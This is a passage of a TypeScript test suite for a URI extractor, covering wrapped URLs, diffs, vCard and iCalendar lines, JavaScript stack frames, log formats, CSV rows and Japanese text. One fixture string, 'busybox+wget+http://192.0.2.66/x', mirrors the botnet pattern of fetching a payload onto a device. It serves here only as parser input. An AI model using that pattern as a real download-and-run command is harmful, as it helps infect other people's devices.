      uris("k=http\\://a.example/very/long\\\n    /continued\nz=http\\://c.example/a\\\n\n"),
    ).toEqual(["http://a.example/very/long/continued", "http://c.example/a"]);
    expectRecordsAtEverySplit("k=http\\://a.example/very/long\\\r\n    /continued\n");
    // (review) a line break inside it is one: wrapped, the other reading of a hyphen's break kept
    const wrapped = extractText("k=http\\://a.example/b-\n  c.html\n");
    expect(wrapped.map((f) => [f.uri, f.wrapped, f.variants])).toEqual([
      ["http://a.example/b-c.html", true, ["http://a.example/bc.html"]],
    ]);
  });

  test("troff's zero-width '\\:' inside a URI whose colon is plain still leaves nothing; an escaped colon after no scheme or without '//' is no URI", () => {
    const text =
      "\\fBhttps://x.example/a\\:b\\fR, key\\:value, C\\:\\\\temp, \\\\\\\\https\\://x, ab\\:x";
    expect(uris(text)).toEqual(["https://x.example/ab"]);
    expectRecordsAtEverySplit(text);
  });

  test("only a properties line's value: in prose an escaped colon keeps a URI from being linked (markdown-it's linkify tests)", () => {
    const text =
      "Don't match escaped: https\\://example.com, see=https\\://b.example/\n" +
      "- url=https\\://c.example/\n  indented.key: http\\://d.example/x\n";
    expect(uris(text)).toEqual(["http://d.example/x"]);
    expectRecordsAtEverySplit(text);
  });

  test("a unified diff's '+' or '-' opening the continuation of a wrapped <URI> is the diff's (git log -p); a comment leader stays one", () => {
    const text =
      "diff --git a/NEWS b/NEWS\n" +
      "+See <https://example.com/very/long/\n+path/file.html> and\n" +
      "-old <http://a.example/x/\n-y-z.html>\n" +
      "+> quoted <http://q.example/a/\n+> b.html>\n" +
      "-- sql <http://s.example/a/\n--   b.html>\n" +
      "- item <http://l.example/a/\n-b.html> <http://m.example/a/\n  -c>\n" +
      "- * see <https://example.com/n/\n- * b.html>\n- // see <https://example.com/o/\n- // b.html>\n";
    expect(extractText(text).map((f) => [f.uri, f.wrapped])).toEqual([
      ["https://example.com/very/long/path/file.html", true],
      ["http://a.example/x/y-z.html", true],
      ["http://q.example/a/b.html", true],
      ["http://s.example/a/b.html", true],
      // (a list's bullet: "-b.html" may be the URI's, wrapped before a hyphen)
      ["http://l.example/a/-b.html", true],
      ["http://m.example/a/-c", true],
      ["https://example.com/n/b.html", true],
      ["https://example.com/o/b.html", true],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a '+' or '-' is a diff's marker only in a hunk: after its '@@' header or a 'diff -' line, over the hunk's lines; a line of prose that opens with a negative number or an address keeps a URI's hyphen (the planted-URI test)", () => {
    // prose: no header before the line, an empty line or a line of prose first
    const prose =
      "-@x <http://example.com/a\n-b/c> y\n" +
      "-42\n-1 <http://a.example/x\n-y>\n" +
      "x\n\n-.a@aa <URL:urn:ISBN:8\n-392-51691-4>\n" +
      "@@ -1 +1 @@\n\n-1 <http://b.example/x\n-y>\n" +
      "Some text\n+See <https://c.example/a/\n+b>\n";
    expect(extractText(prose).map((f) => f.uri)).toEqual([
      "http://example.com/a-b/c",
      "http://a.example/x-y",
      "urn:ISBN:8-392-51691-4",
      "http://b.example/x-y",
      "https://c.example/a/+b",
    ]);
    expectRecordsAtEverySplit(prose);
    // a diff: the header, a context line, "\\ No newline", a combined diff's "@@@"
    const diff =
      "diff --git a/README b/README\nindex 1234567..89abcde 100644\n--- a/README\n+++ b/README\n" +
      "@@ -1,4 +1,5 @@ Intro\n context\n-Old <http://old.example/a/\n-b.html>\n" +
      "\\ No newline at end of file\n+See <https://example.com/very/long/\n+path/file.html>\n" +
      "@@@ -1,2 -1,2 +1,3 @@@\n+-1 <http://m.example/x/\n+-y>\n" +
      "diff -u -r a/b b/b\n-2 <http://d.example/x/\n-y>\n";
    expect(extractText(diff).map((f) => f.uri)).toEqual([
      "http://old.example/a/b.html",
      "https://example.com/very/long/path/file.html",
      // (a combined diff's two columns, "+-", are both markers: session 41)
      "http://m.example/x/y",
      "http://d.example/x/y",
    ]);
    expectRecordsAtEverySplit(diff);
  });

  test("a diff's hunk is looked for at most 2048 bytes back (DIFF_WINDOW): a window full of a hunk's lines is one, and the answer does not depend on the input's chunks", () => {
    const hunk = (k: number) => `+line ${String(k).padStart(4, "0")} of a new file\n`; // 25 bytes
    const tail = "+See <https://example.com/very/long/\n+path/file.html>\n";
    // a new file's long hunk: its header more than the window back, or none at all
    for (const head of ["@@ -0,0 +1,200 @@\n", ""]) {
      const text =
        "prose\n".repeat(600) +
        head +
        Array.from({ length: 150 }, (_, k) => hunk(k)).join("") +
        tail;
      expect(uris(text)).toEqual(["https://example.com/very/long/path/file.html"]);
    }
    // a few lines of a hunk and the text's start, or prose, before them: none
    for (const before of ["", "prose\n"]) {
      const text = before + Array.from({ length: 3 }, (_, k) => hunk(k)).join("") + tail;
      expect(uris(text)).toEqual(["https://example.com/very/long/+path/file.html"]);
    }
    // a line of prose just inside the window (the LF before it is the window's first byte
    // at 166), or just outside it, after more text than the scanner keeps (HISTORY): the same
    // records whichever byte the input is split at
    for (const [pad, expected] of [
      [165, "https://example.com/very/long/+path/file.html"],
      [166, "https://example.com/very/long/+path/file.html"],
      [167, "https://example.com/very/long/path/file.html"],
      [168, "https://example.com/very/long/path/file.html"],
    ] as const) {
      const text =
        "prose\n".repeat(700) +
        "+".repeat(pad) +
        Array.from({ length: 75 }, (_, k) => hunk(k)).join("") +
        tail;
      expect(uris(text), `pad ${pad}`).toEqual([expected]);
      expectRecordsAtEverySplit(text, 7);
    }
    // many URIs in one hunk (each line read once: a walk stops at the line the last one
    // started from), a line of prose among them: after it, none until the window is full
    let text = "@@ -1,300 +1,300 @@\n";
    const expected: string[] = [];
    let prose = -1;
    for (let i = 0; i < 150; i++) {
      if (i === 40) {
        prose = text.length;
        text += "prose\n";
      }
      const start = text.length;
      text += `+<http://a.example/${i}/\n+b>\n`;
      const inHunk = prose < 0 || start - 2048 > prose - 1;
      expected.push(`http://a.example/${i}/${inHunk ? "" : "+"}b`);
    }
    expect(expected.filter((u) => u.endsWith("/+b")).length).toBeGreaterThan(50);
    expect(uris(text)).toEqual(expected);
    expectRecordsAtEverySplit(text, 5);
  });
});

describe("session 34", () => {
  test("a URL broken at its scheme's ':' (LaTeX's url.sty breaks there; pdftotext's text) goes on in '//' and a dotted host on the next line", () => {
    const text =
      "In Proc. CHI, pages 1-10. https:\n//doi.org/10.1145/3290605.3300234.\n" +
      "and everybody at https:\r\n//tex.stackexchange.com/ for help\n" +
      "(see http:\n//cassi.cas.org/search.jsp for lists)\n" +
      "case http:\n// a comment\nNote:\n//example.org/x\nfoohttp:\n//a.example.org/\n" +
      "https:\n  //indented.example.org/ and\nftp:\n//ftp.example.org/pub/\n";
    expect(extractText(text).map((f) => [f.uri, f.wrapped, f.raw.split("\n")[0]])).toEqual([
      ["https://doi.org/10.1145/3290605.3300234", true, "https:"],
      ["https://tex.stackexchange.com/", true, "https:\r"],
      ["http://cassi.cas.org/search.jsp", true, "http:"],
      ["ftp://ftp.example.org/pub/", true, "ftp:"],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a dotted host broken after its last '.' goes on when the next line opens with a common top-level domain and '/' or a port; a sentence's '.' stays", () => {
    const text =
      "see https://tex.stackexchange.\ncom/a/640035 (including\nProf. Welch, http://www.ivo-welch.\ninfo/. He\n" +
      "Visit http://example.com.\ncom is a word; http://x.example.\norg:8080/y and http://y.example.\norg is\n" +
      "http://a.example/x.\ncom/z http://b.example.\nfoo/bar\n";
    expect(extractText(text).map((f) => [f.uri, f.wrapped])).toEqual([
      ["https://tex.stackexchange.com/a/640035", true],
      ["http://www.ivo-welch.info/", true],
      ["http://example.com", false],
      ["http://x.example.org:8080/y", true],
      ["http://y.example", false],
      ["http://a.example/x", false],
      ["http://b.example", false],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a vCard or iCalendar content line's name and parameters before a scheme are the line's, not the URI's (RFC 6350 §6.4.3, §6.5.2 examples); iCalendar's GEO value is no geo URI", () => {
    const text =
      "BEGIN:VCARD\nIMPP;PREF=1:xmpp:alice@example.com\nGEO:geo:37.386013,-122.082932\n" +
      'TEL;VALUE=uri;TYPE="voice,home":tel:+1-555-555-0100\nTEL:tel:+1-555-555-0101\n' +
      "item1.URL;type=pref:http://example.com/x\nMEMBER:mailto:m@example.com\n" +
      "X-APPLE-STRUCTURED-LOCATION;VALUE=URI;X-TITLE=:geo:52.382762,7.528319\n" +
      "GEO:38.90;-77.01\nEND:VCARD\nproto:sip:5060 and key:xmpp:word\n";
    expect(uris(text)).toEqual([
      "xmpp:alice@example.com",
      "geo:37.386013,-122.082932",
      "tel:+1-555-555-0100",
      "tel:+1-555-555-0101",
      "http://example.com/x",
      "mailto:m@example.com",
      "geo:52.382762,7.528319",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a content line's parameters folded by their writer (Apple's X-APPLE-STRUCTURED-LOCATION) still come before the value's geo URI", () => {
    const text =
      "BEGIN:VEVENT\r\nX-APPLE-STRUCTURED-LOCATION;VALUE=URI;X-ADDRESS=1 Infinite Loop\\nCupertino\r\n" +
      " , CA 95014;X-APPLE-RADIUS=100;X-TITLE=Apple:geo:37.331741,-122.030333\r\n" +
      'X-APPLE-STRUCTURED-LOCATION;VALUE=URI;X-RADIUS=70;X-TITLE="Caf\u00e9 Central, H\r\n\terrengasse 14":geo:48.21,16.36\r\nEND:VEVENT\r\n';
    expect(uris(text)).toEqual(["geo:37.331741,-122.030333", "geo:48.21,16.36"]);
    expectRecordsAtEverySplit(text);
    // no content line's name: prose, a log line, a line that opens with a blank after a short one
    for (const t of [
      "Some text\n\n X-FOO;A=B:sip:alice@example.com\n",
      "CFLAGS;O=2\n X:sip:alice@example.com\n",
      "Some text here\n more;X=1:geo:37.3,-122.0\n",
      "ERROR in mod\n ;X=1:geo:37.3,-122.0\n",
      "x\n  X-Y;A=1:geo:37.3,-122.0\n",
    ]) {
      expect(uris(t), t).toEqual([]);
    }
  });

  test("a template's placeholder in a path ends the URI before its segment: Jinja, shell, RPM, printf, Python and Ruby forms; in or for the host no URI; data with '%' stays", () => {
    const text =
      'url: "https://www.mongodb.org/static/pgp/server-{{ mongodb_version }}.asc"\n' +
      "get https://github.com/mozilla/sops/releases/download/v{{ sops_version }}/sops\n" +
      "curl -O https://example.com/dl/v${VERSION}/x.tar.gz https://example.com/a/${VERSION}/x\n" +
      "Source0: https://www.cpan.org/modules/Template-Toolkit-%{version}.tar.gz\n" +
      '"https://docs.python.org/%d.%d/library" "http://freshmeat.net/projects/%s" http://data.org/%(algo)/x\n' +
      '"druby://#{host}:#{port}" "http://debuggee#{path}" "https://api.#{domain}/x" "https://x.example/a/#{b}/c"\n' +
      "https://example.com/{{tag_name}}/x ?q=http://example.com/a?id=%-8s&b\n" +
      "http://example.com/50%off http://example.com/a%20b file:///some/path%.c http://example.com/%u00e9\n" +
      "https://github.com/{owner}/{repo} at github.com/x/cty.GetAttr({{{0x15dbdf8?, 0xc0}}})\n";
    expect(uris(text)).toEqual([
      "https://www.mongodb.org/static/pgp/",
      "https://github.com/mozilla/sops/releases/download/",
      "https://example.com/dl/",
      "https://example.com/a/",
      "https://www.cpan.org/modules/",
      "https://docs.python.org/",
      "http://freshmeat.net/projects/",
      "http://data.org/",
      "http://debuggee",
      "https://x.example/a/",
      "https://example.com/",
      "http://example.com/a?id=",
      "http://example.com/50%off",
      "http://example.com/a%20b",
      "file:///some/path%.c",
      "http://example.com/%u00e9",
      "https://github.com/{owner}/{repo}",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("git-config(1)'s keys whose subsection is a URL: the URL without the variable's name; a '=value' after it read again", () => {
    const text =
      "git config --local http.https://github.com/.extraheader AUTHORIZATION: basic ***\n" +
      "credential.https://source.developers.google.com.helper=gcloud.sh\n" +
      "url.https://github.com/.insteadof=git@github.com:\n" +
      "HTTP.https://weird.example.com/a.b.sslVerify=false http.https://weird.example.com/a.b.proxy=http://proxy.local:3128\n" +
      "see http.https://example.com/a.html and x.https://example.com/y.helper\n";
    expect(uris(text)).toEqual([
      "https://github.com/",
      "https://source.developers.google.com",
      "https://github.com/",
      "https://weird.example.com/a.b",
      "https://weird.example.com/a.b",
      "http://proxy.local:3128",
      "https://example.com/a.html",
      "https://example.com/y.helper",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a JavaScript stack frame's ':line:column' after its script's URL is the frame's (V8's 'at', SpiderMonkey's '@'); elsewhere it stays", () => {
    const text =
      "Error: boom\n    at f (http://127.0.0.1:18080/mod.mjs:2:9)\n    at file:///srv/app/netimp.mjs:2:1\n" +
      "    at async TestContext.<anonymous> (file:///srv/t.test.mjs:2:35)\n" +
      "    at eval (webpack-internal:///./src/index.js:12:5)\nf@http://127.0.0.1:18080/app2.js:2:9\n" +
      "see https://example.com/a:1:2 here\n    at https://example.com/b:8080\n";
    expect(uris(text)).toEqual([
      "http://127.0.0.1:18080/mod.mjs",
      "file:///srv/app/netimp.mjs",
      "file:///srv/t.test.mjs",
      "webpack-internal:///./src/index.js",
      "http://127.0.0.1:18080/app2.js",
      "https://example.com/a:1:2",
      "https://example.com/b:8080",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("Node's uncaught-error header: the script's URL and ':line' alone on a line, above the source line and its caret", () => {
    const text =
      'file:///srv/app/mod.mjs:2\n  throw new Error("x");\n        ^\n\nError: x\n' +
      "    at file:///srv/app/mod.mjs:2:9\r\nhttp://localhost:5173/src/App.vue:14\r\n  <div>\r\n" +
      "    ^^^^^\r\n" +
      // no caret line, no file name, a port: as written
      "https://example.com/a.js:3\nnext line\nhttps://example.com/b:3\n x\n ^\nhttp://h.example:8\n\n^\n" +
      "file:///srv/end.mjs:7\nnull.x;\n    ^\n" +
      // ":line:column" (Deno, Bun); a blank source line; a reStructuredText title's underline
      'file:///srv/deno.ts:2:7\nthrow new Error("x");\n      ^\n' +
      "http://localhost:8080/app.js:12\n\n^\nhttps://example.com/docs/api.html:3\nSection title\n^^^^^^^^^^^^^\n";
    expect(uris(text)).toEqual([
      "file:///srv/app/mod.mjs",
      "file:///srv/app/mod.mjs",
      "http://localhost:5173/src/App.vue",
      "https://example.com/a.js:3",
      "https://example.com/b:3",
      "http://h.example:8",
      "file:///srv/end.mjs",
      "file:///srv/deno.ts",
      "http://localhost:8080/app.js:12",
      "https://example.com/docs/api.html:3",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("…behind a log's prefix written again on each of the three lines (journald, Docker Compose)", () => {
    const text =
      "Nov 28 10:00:00 host node[123]: file:///app/server.mjs:12\n" +
      'Nov 28 10:00:01 host node[123]:     throw new Error("x");\n' +
      "Nov 28 10:00:01 host node[123]:     ^\n" +
      "web-1  | file:///srv/app/index.js:7\r\nweb-1  |   await run();\r\nweb-1  |   ^\r\n" +
      // another prefix on the next line, no blank before the URL, prose: as written
      "web-1  | file:///srv/app/a.js:7\napi-1  |   await run();\napi-1  |   ^\n" +
      "x:file:///srv/app/b.js:8\nx:  go();\nx:  ^\n" +
      "see file:///srv/app/c.js:9\nand more\n";
    expect(uris(text)).toEqual([
      "file:///app/server.mjs",
      "file:///srv/app/index.js",
      "file:///srv/app/a.js:7",
      "file:///srv/app/b.js:8",
      "file:///srv/app/c.js:9",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("LEEF's '^' between a URI pair's value and the next '^name=' pair is the record's delimiter", () => {
    const text =
      "LEEF:2.0|Lancope|StealthWatch|1.0|41|^|src=10.0.1.8^url=http://x.example/a/b?c=1^dst=10.0.0.1\n" +
      "LEEF:2.0|V|P|1.0|41|^|url=https://y.example/^proto=6\n" +
      // not a pair's value after "^" or "|", or not in a LEEF record: the URI's "^" stays
      "see http://z.example/?i=x^y=2 and q=http://w.example/?a=b^c=d\n" +
      "CEF:0|V|P|1|1|n|5|request=https://acme.service-now.com/incident_list.do?sysparm_query=active=true^priority=1 src=10.0.0.1\n" +
      "|url=https://x.example/q?a=1^b=2&c=3|\n";
    expect(uris(text)).toEqual([
      "http://x.example/a/b?c=1",
      "https://y.example/",
      "http://z.example/?i=x^y=2",
      "http://w.example/?a=b^c=d",
      "https://acme.service-now.com/incident_list.do?sysparm_query=active=true^priority=1",
      "https://x.example/q?a=1^b=2&c=3",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a namespaced XML tag with blanks before its '>' is markup ('<xsl:otherwise >'); Cargo's registry+ and sparse+ source URLs keep their kind", () => {
    const text =
      '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform">\n  <xsl:otherwise >\n' +
      "  <svrl:active-pattern > <xs:complexType  />\n<about:blank > <http://example.com/a >\n" +
      "<code>registry+https://github.com/rust-lang/crates.io-index#regex@1.4.3</code>\n" +
      "sparse+https://index.crates.io/ and busybox+wget+http://192.0.2.66/x\n";
    expect(uris(text)).toEqual([
      "http://www.w3.org/1999/XSL/Transform",
      "about:blank",
      "http://example.com/a",
      "registry+https://github.com/rust-lang/crates.io-index#regex@1.4.3",
      "sparse+https://index.crates.io/",
      "http://192.0.2.66/x",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a quoted data: URI's whitespace is dropped (Inkscape's base64 in pieces); one longer than maxLength gives no record, not its first piece", () => {
    const piece = "iVBORw0KGgoAAAANSUhEUgAAADUAAAA2CAYAAABnctHeAAAABmJLR0QA";
    const text =
      `<image xlink:href="data:image/png;base64,${piece} ${piece}\n   ${piece}" />\n` +
      `<image href='data:,a b'/> "data:text/plain,hello" "data:image/png;base64,${piece} ${"A".repeat(9000)}"\n` +
      `{"msg":"data:received 5 bytes from http://10.0.0.1/x"} 'data:text/plain;charset=utf-8,Hello World'\n` +
      `url("data:image/svg+xml,%3csvg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 16 16'%3e")\n` +
      `"data:text/html,<b>x</b> y" end\n`;
    const found = extractText(text);
    expect(
      found.map((f) => [f.uri.length > 60 ? f.uri.slice(0, 30) : f.uri, f.delimiter, f.wrapped]),
    ).toEqual([
      ["data:image/png;base64,iVBORw0K", "quote", true],
      // (only base64 data drops its blanks: elsewhere they are the data's or the text's)
      ["data:,a", "bare", false],
      ["data:text/plain,hello", "quote", false],
      ["http://10.0.0.1/x", "bare", false],
      ["data:text/plain;charset=utf-8,Hello", "bare", false],
      ["data:image/svg+xml,%3csvg", "bare", false],
      ["http://www.w3.org/2000/svg", "quote", false],
    ]);
    expect(found[0]!.uri).toBe(`data:image/png;base64,${piece}${piece}${piece}`);
    expectRecordsAtEverySplit(text);
  });

  test("a regular expression's group or an autoconf/uscan substitution in a URL ends it before its segment (debian/watch patterns); a Lua method call is no URI", () => {
    const text =
      "ftp://ftp.gnu.org/gnu/bash/bash-([\\d\\.]*).tar.gz debian uupdate\n" +
      "    https://ftp.gnu.org/pub/gnu/bc/bc-([0-9a-z.]+).tar.gz\n" +
      "\thttps://ftp.gnu.org/gnu/grep/grep-(.+)\\.tar\\.(?:gz|bz2|xz)\n" +
      "https://ftp.gnu.org/gnu/libtasn1/libtasn1-@ANY_VERSION@@ARCHIVE_EXT@ and @PACKAGE_URL@\n" +
      "uri = /\\Adruby:\\/\\/(.*?):(\\d+)/ and https://en.wikipedia.org/wiki/Mercury_(planet) http://[::1]:80/a(b)\n" +
      "  assert(query:type() == 'query'); res = res:toLocal(); s:gsub('a', b) javascript:void(0) man:ls(1)\n";
    expect(uris(text)).toEqual([
      "ftp://ftp.gnu.org/gnu/bash/",
      "https://ftp.gnu.org/pub/gnu/bc/",
      "https://ftp.gnu.org/gnu/grep/",
      "https://ftp.gnu.org/gnu/libtasn1/",
      "https://en.wikipedia.org/wiki/Mercury_(planet)",
      "http://[::1]:80/a(b)",
      "javascript:void(0)",
      "man:ls(1)",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a scheme-named key and its quoted value, or a call through a dotted name, in a minified script is no URI (the HTML hunt: 133 in Go's trace viewer)", () => {
    const text =
      "<script>f({message:'Unknown error',stack:'x'});o={icon:String.fromCharCode(9888),color:'red'};" +
      " {cid:\"abc\",sms:'z',go:'x',\"ms-word\":'w'}</script>\n" +
      "see man:systemd.unit(5), man:openssl(1ssl) and javascript:window.open(1); " +
      "<a href=\"javascript:'x'\">x</a>\n";
    expect(uris(text)).toEqual([
      "man:systemd.unit(5)",
      "man:openssl(1ssl)",
      "javascript:window.open(1)",
      "javascript:'x'",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("fuzzy: an ANSI colour sequence before a name is no part of it, a bot's '+' before a contact address is not the address's, Terraform's main.tf and Java's dotted names are no links", () => {
    const esc = "\u001b";
    const text =
      `Resolving ${esc}[01;31m${esc}[Kregistry.npmjs.org${esc}[m${esc}[K (x) ${esc}[1;31mrepo.maven.apache.org: fail\n` +
      "(compatible; NetcraftSurveyAgent/1.0; +info@netcraft.com) +@java.lang.SuppressWarnings +15551234567@tmomail.net\n" +
      "on main.tf line 2, in terraform: see www.gov.tf and variables.tf\n" +
      "spoon.reflect.cu.CompilationUnit in spoon.reflect.cu has been deprecated; spoon.reflect.code.BinaryOperatorKind.NE, org.joda.time.tz\n" +
      "QuickNotepadPlugin.NAME process.env.CI performanceEntry.name GitHub.com eBay.in\n" +
      "WWW.EXAMPLE.COM docs.python.org www.Example.NET OpenStreetMap.de iHeartRadio.ca PayPal.Me api.github.COM\n";
    expect(uris(text, { fuzzy: true })).toEqual([
      "http://registry.npmjs.org",
      "http://repo.maven.apache.org",
      "mailto:info@netcraft.com",
      "mailto:+@java.lang.SuppressWarnings",
      "mailto:+15551234567@tmomail.net",
      "http://www.gov.tf",
      "http://GitHub.com",
      "http://eBay.in",
      "http://WWW.EXAMPLE.COM",
      "http://docs.python.org",
      "http://www.Example.NET",
      "http://OpenStreetMap.de",
      "http://iHeartRadio.ca",
      "http://PayPal.Me",
      "http://api.github.COM",
    ]);
  });

  test("the review's counterexamples: Python's log format is no content line, '{%' and two hex digits is data, a time in prose is no frame's position, a '.' after a whole host is the sentence's, a code label's colon, rules at the input's end", () => {
    const text =
      "DEBUG:dns:resolving example.com\nINFO:sip:registered\nINFO:xmpp:connected\n" +
      "https://grafana.example.com/explore?left={%22datasource%22:%22loki%22}\n" +
      "  at https://www.youtube.com/watch?v=abc#t=1:23:45\nat https://example.com/schedule/12:00:30\n" +
      "Check http://example.org.\ncom/the/file and https://www.bbc.co.\nuk/news\nswitch (s) { case http:\n//comment.here\n}\n" +
      "// see ftp:\n//ftp.example.org/pub\ngeo:0,0?q=1600+Amphitheatre+Parkway\n" +
      "at http://a.example/m.js:1:2";
    expect(uris(text)).toEqual([
      "https://grafana.example.com/explore?left={%22datasource%22:%22loki%22}",
      "https://www.youtube.com/watch?v=abc#t=1:23:45",
      "https://example.com/schedule/12:00:30",
      "http://example.org",
      "https://www.bbc.co.uk/news",
      "geo:0,0?q=1600+Amphitheatre+Parkway",
      "http://a.example/m.js",
    ]);
    expectRecordsAtEverySplit(text);
    // a working buffer's stale bytes past the input's end are no input (the stream keeps
    // what it read before in its buffer)
    const long = `${"x".repeat(2000)}\nat http://a.example/m.js:1:2`;
    const found: string[] = [];
    const sc = new TextScanner({}, (f) => found.push(f.uri));
    sc.push(Buffer.from(long.slice(0, 1500)));
    sc.push(Buffer.from(long.slice(1500)));
    sc.end();
    expect(found).toEqual(["http://a.example/m.js"]);
    expect(uris("https://example.com/r/%i")).toEqual(["https://example.com/r/"]);
    expect(uris("x https://a.b.\ncom/")).toEqual(["https://a.b.com/"]);
  });

  test("a Haddock link's label after blanks inside <…> in a Haskell comment is not the URI's: words, or a dotted name after a whole URI", () => {
    const text =
      "-- <http://goessner.net/articles/JsonPath/ JSONPath> error location.\n" +
      "-- on <http://youtu.be/cefnmjtAolY?hd=1 youtube>. <http://www.ietf.org/rfc/rfc3986.txt IETF RFC 3986>\n" +
      "  -- <https://hackage.haskell.org/package/aeson-qq/docs/Data-Aeson-QQ.html Data.Aeson.QQ>\n" +
      "-- <http://example.com/a b.html> <mailto:xcb at lists.freedesktop.org> <URL: http://example.com/c>\n" +
      "not in a comment: <http://example.com/d e>\n";
    expect(extractText(text, { includeInvalid: true }).map((f) => [f.uri, f.valid])).toEqual([
      ["http://goessner.net/articles/JsonPath/", true],
      ["http://youtu.be/cefnmjtAolY?hd=1", true],
      ["http://www.ietf.org/rfc/rfc3986.txt", true],
      ["https://hackage.haskell.org/package/aeson-qq/docs/Data-Aeson-QQ.html", true],
      ["http://example.com/ab.html", true],
      ["mailto:xcbatlists.freedesktop.org", false],
      ["http://example.com/c", true],
      ["http://example.com/de", true],
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("a hard wrap does not join a YAML mapping's key, less indented than the URI's line", () => {
    const pad = "x".repeat(6);
    const text =
      `      - win_region - Fix copy settings on a host that has disabled reg.exe ${pad}\n` +
      "        access - https://github.com/ansible-collections/community.windows/issues/287\n" +
      "      minor_changes:\n      - x\n";
    expect(uris(text)).toEqual([
      "https://github.com/ansible-collections/community.windows/issues/287",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("an element's whole content keeps its trailing punctuation; a sentence's inside an element does not", () => {
    const text =
      "<xsl:text>http://example.com/cgi-bin/man.cgi?</xsl:text>\n" +
      "<loc>https://en.wikipedia.org/wiki/Washington,_D.C.</loc>\n" +
      "<p>See http://x.org.</p> <xsl:text>http://...</xsl:text>\n";
    expect(uris(text)).toEqual([
      "http://example.com/cgi-bin/man.cgi?",
      "https://en.wikipedia.org/wiki/Washington,_D.C.",
      "http://x.org",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("the second review's counterexamples: Mastodon's @USER@domain, a regex in a query, a cache-busting query in a stack frame, X- and same-name content lines", () => {
    const text =
      "Follow https://mastodon.social/@NASA@mstdn.social and https://x.example/lib-@VERSION@.tar.gz\n" +
      "https://example.com/search?q=(?:abc) and https://e.example/a#(.*)p\n" +
      "    at f (https://example.com/js/jquery.min.js?ver=3.7.1:2:1234)\n" +
      "X-SOCIALPROFILE:xmpp:bob@example.com\nX-SIP:sip:alice@example.com\nSIP:sip:carol@example.com\n" +
      "MAILTO:mailto:x@y.example\nINFO:sip:registered\n";
    expect(uris(text)).toEqual([
      "https://mastodon.social/@NASA@mstdn.social",
      "https://x.example/",
      "https://example.com/search?q=(?:abc)",
      "https://e.example/a#(.*)p",
      "https://example.com/js/jquery.min.js?ver=3.7.1",
      "xmpp:bob@example.com",
      "sip:alice@example.com",
      "sip:carol@example.com",
      "mailto:x@y.example",
    ]);
    expectRecordsAtEverySplit(text);
  });
});

describe("session 35", () => {
  test("a bare URI that is an unquoted field of a CSV row ends at the next field's comma (RFC 4180 §2: a field holding a comma is quoted)", () => {
    const text =
      "id,url,name\n1,http://example.com/a,Alice\r\n2,https://example.org/x?y=1,Bob Smith\n" +
      "3,https://example.org/p/,2023-01-01\n" +
      '"a,b",http://example.net/q,z\n' +
      // a row whose URI holds commas of its own counts more separators than its header
      "4,http://maps.example/@51.5,-0.1,15z,Desc\n";
    expect(uris(text)).toEqual([
      "http://example.com/a",
      "https://example.org/x?y=1",
      "https://example.org/p/",
      "http://example.net/q",
      "http://maps.example/@51.5,-0.1,15z,Desc",
    ]);
    expectRecordsAtEverySplit(text);
  });

  test("prose keeps a URI's commas: a comma followed by a blank, no line before, fewer than two commas, or no comma before the URI", () => {
    expect(
      uris(
        "See the map, at\nhttp://maps.example/?q=1,2 ok, and\n" +
          "x,y,z\nhttp://a.example/b,c\n" +
          "a,b,c\nsee http://b.example/d,e\n",
      ),
    ).toEqual(["http://maps.example/?q=1,2", "http://a.example/b,c", "http://b.example/d,e"]);
    expect(uris("1,http://c.example/f,g\n")).toEqual(["http://c.example/f,g"]);
    // a URL-first column: a row when the next field starts with a letter and the row's
    // rest holds no "/" (the second review's)
    expect(
      uris(
        "url,title,date\nhttps://a.example/x,Example page,2020-01-01\nhttps://b.example/y,Other,2021-02-02\n",
      ),
    ).toEqual(["https://a.example/x", "https://b.example/y"]);
    expect(
      uris(
        "https://res.example/upload/w_300,h_200,c_crop/a.jpg\nhttps://res.example/upload/w_400,h_100,c_fit/b.jpg\n",
      ),
    ).toEqual([
      "https://res.example/upload/w_300,h_200,c_crop/a.jpg",
      "https://res.example/upload/w_400,h_100,c_fit/b.jpg",
    ]);
    // a list of URLs, one a line, each with its commas: no table (the review's)
    expect(
      uris(
        "https://www.google.com/maps/@51.5074,-0.1278,15z\nhttps://www.google.com/maps/@48.8566,2.3522,13z\n",
      ),
    ).toEqual([
      "https://www.google.com/maps/@51.5074,-0.1278,15z",
      "https://www.google.com/maps/@48.8566,2.3522,13z",
    ]);
    // one comma in each of two lines: code or prose as often as a two-field row
    expect(uris("f(a,b)\nhttp://d.example/e,f\n")).toEqual(["http://d.example/e,f"]);
  });

  test("a Japanese particle that opens the rest of the sentence glued to an ASCII URI is the sentence's: を, or に で へ から まで より before a kanji or katakana", () => {
    const text =
      "詳細はhttps://example.jp/docs/をご覧ください\nhttps://example.jp/にアクセス\n" +
      "http://example.jp/dl/からダウンロード http://example.jp/index.htmlで公開\n" +
      "http://ja.wikipedia.org/wiki/からあげ http://ja.wikipedia.org/wiki/日本語 http://a.example/x/にほん\n" +
      // a title that starts with a particle and a kanji (the review's)
      "https://ja.wikipedia.org/wiki/から騒ぎ を参照 https://dic.pixiv.net/a/から揚げ\n" +
      // after a "/": kanji and a verb's ending are the sentence's (the second review's)
      "最新版はhttps://github.com/foo/bar/から入手できます。詳細はhttps://example.jp/docs/で公開しています。\n";
    expect(uris(text)).toEqual([
      "https://example.jp/docs/",
      "https://example.jp/",
      "http://example.jp/dl/",
      "http://example.jp/index.html",
      "http://ja.wikipedia.org/wiki/からあげ",
      "http://ja.wikipedia.org/wiki/日本語",
      "http://a.example/x/にほん",
      "https://ja.wikipedia.org/wiki/から騒ぎ",
      "https://dic.pixiv.net/a/から揚げ",
      "https://github.com/foo/bar/",
      "https://example.jp/docs/",
    ]);
